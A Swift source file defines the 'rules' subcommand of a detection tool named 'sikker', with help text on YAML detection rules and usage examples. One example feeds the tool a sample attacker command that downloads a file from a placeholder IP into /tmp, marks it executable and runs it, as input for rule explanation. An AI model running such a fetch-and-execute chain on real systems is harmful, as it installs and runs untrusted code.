import ArgumentParser

/// `sikker rules`
struct RulesCommand: AsyncParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "rules",
        abstract: "Checks, tests and explains the rules of detection, and looks for them in what was seen.",
        discussion: """
            Rules are YAML: primitives, each something that can be seen in one event, and behaviours,
            which are what primitives amount to in one session. A server takes up files in its folder
            'rules.folder' as soon as they change.

            EXAMPLES
              sikker rules list --protocol ssh --severity high
              sikker rules check mine.yaml && cp mine.yaml /etc/sikker/rules/
              sikker rules explain ssh 'cd /tmp; wget http://192.0.2.7/x; chmod +x x; ./x'
            """,
        subcommands: [
            RulesListCommand.self, RulesCheckCommand.self, RulesTestCommand.self, RulesExplainCommand.self,
            RulesHuntCommand.self,
        ])
}
